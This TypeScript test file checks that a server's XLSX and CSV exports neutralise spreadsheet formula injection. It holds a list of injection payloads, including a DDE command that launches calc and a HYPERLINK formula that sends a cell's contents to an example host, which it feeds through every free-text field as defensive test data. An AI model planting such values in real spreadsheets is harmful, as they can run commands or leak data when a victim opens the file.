import { buffer } from 'node:stream/consumers'
import { parseCsv } from 'hucre/csv'
import { expect, test } from 'vitest'
import * as z from 'zod'
import { bytesOf } from '../core/server/files/chunks.ts'
import { officeLimits } from '../core/server/files/kinds/limits.ts'
import { inflate, readEntries } from '../core/server/files/kinds/zip.ts'
import type { Spreadsheet } from '../core/server/spreadsheet.ts'
import { writeCsv, writeXlsx } from '../core/server/xlsx.ts'
import { house } from './server.ts'
import type { Schema } from './wild.ts'

/** What somebody types into a name or a text, hoping that a colleague opens the spreadsheet of it. */
const evil = [
  `=cmd|' /C calc'!A0`,
  '+SUM(1,1)*cmd',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '=HYPERLINK("http://a.example/?"&A1,"x")',
  `a","=1+1`,
] as const

/** A row of a list in which every field that holds free text holds this. */
function rowOf(schema: Schema, text: string): unknown {
  const choice = [...(schema.anyOf ?? schema.oneOf ?? [])].find((one) => one.type !== 'null')
  if (choice) return rowOf(choice, text)
  if (schema.const !== undefined) return schema.const
  if (schema.enum) return schema.enum[0]
  const type = Array.isArray(schema.type) ? schema.type.find((one) => one !== 'null') : schema.type
  if (type === 'object')
    return Object.fromEntries(Object.entries(schema.properties ?? {}).map(([name, one]) => [name, rowOf(one, text)]))
  if (type === 'array') return [rowOf(schema.items ?? {}, text)]
  if (type === 'integer' || type === 'number') return schema.minimum ?? 0
  if (type === 'boolean') return true
  return schema.pattern && !new RegExp(schema.pattern, 'u').test(text) ? '1' : text
}

const rowsOf = ({ query, columns }: Spreadsheet) => {
  const { rows } = (z.toJSONSchema(query.gives, { io: 'input' }) as Schema).properties ?? {}
  return evil.map((text) => columns.map((column) => column.of(rowOf(rows?.items ?? {}, text) as never)))
}

async function sheetXml(book: Buffer): Promise<string> {
  const entries = await readEntries(bytesOf(book), officeLimits)
  const pieces: Buffer[] = []
  for (const entry of entries.filter(({ name }) => name.startsWith('xl/worksheets/')))
    await inflate(bytesOf(book), entry, officeLimits, { inflated: 0 }, (piece) => void pieces.push(piece))
  return Buffer.concat(pieces).toString()
}

/** Lists of days, numbers and words of ours alone: nothing stands in them that anybody typed. */
const wordless = ['信访举报件数', '发出的提醒']
const all = [...house.spreadsheets.values()]
const lists = all.filter(({ title }) => !wordless.includes(title))
const plainNumber = /^-?\d+(\.\d+)?$/

/** A name or a code is one line: it takes only these. */
const onOneLine = evil.filter((text) => !/[\t\r\n]/.test(text))

test('the house has spreadsheets, and each holds texts that somebody typed', () => {
  expect(lists.length).toBeGreaterThan(5)
  for (const list of lists)
    expect(
      rowsOf(list)
        .flat()
        .filter((cell) => evil.includes(cell as never)).length,
      list.title,
    ).toBeGreaterThanOrEqual(onOneLine.length)
  const silent = all.filter(
    (list) =>
      !rowsOf(list)
        .flat()
        .some((cell) => evil.includes(cell as never)),
  )
  expect(silent.map(({ title }) => title)).toEqual(wordless)
})

test.each(lists.map((list) => [list.title, list] as const))(
  '%s as a workbook has no cell that is a formula',
  async (title, list) => {
    const xml = await sheetXml(await buffer(writeXlsx(list.columns, rowsOf(list), title)))
    expect(xml).not.toMatch(/<f[ >/]/)
    const cells = [...xml.matchAll(/<c ([^>]*)>(.*?)<\/c>/gs)]
    expect(cells.length).toBeGreaterThan(evil.length)
    for (const [, attributes, inside] of cells) {
      if (attributes?.includes('t="inlineStr"')) continue
      expect(inside).toMatch(/^<v>-?\d+(\.\d+)?(e[+-]?\d+)?<\/v>$/)
    }
    const free = cells.filter(([, , inside]) => inside?.includes('cmd|'))
    for (const [, attributes] of free) expect(attributes).toContain('s="7"')
  },
)

test.each(lists.map((list) => [list.title, list] as const))(
  '%s as CSV has no cell that begins as a formula does',
  async (_, list) => {
    const said = (await buffer(writeCsv(list.columns, rowsOf(list)))).toString()
    const cells = parseCsv(said, { typeInference: false, skipBom: true }).flat().map(String)
    expect(cells.filter((cell) => cell.includes('cmd')).length).toBeGreaterThan(0)
    const dangerous = cells.filter((cell) => /^[\t\r\n]|^\s*[=+\-@＝＋－＠]/.test(cell) && !plainNumber.test(cell))
    expect(dangerous).toEqual([])
  },
)
